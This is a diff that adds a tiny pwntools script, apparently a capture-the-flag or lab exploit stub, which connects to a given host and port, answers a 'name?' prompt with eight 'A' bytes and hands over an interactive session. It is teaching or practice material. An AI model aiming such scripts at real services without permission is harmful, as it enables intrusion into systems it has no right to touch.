@@ -0,0 +1,9 @@
+import sys
+
+from pwn import *
+
+host, port = (sys.argv[1], int(sys.argv[2])) if len(sys.argv) > 2 else ("localhost", 5000)
+
+p = remote(host, port)
+p.sendlineafter(b"name?", b"A" * 8)
+p.interactive()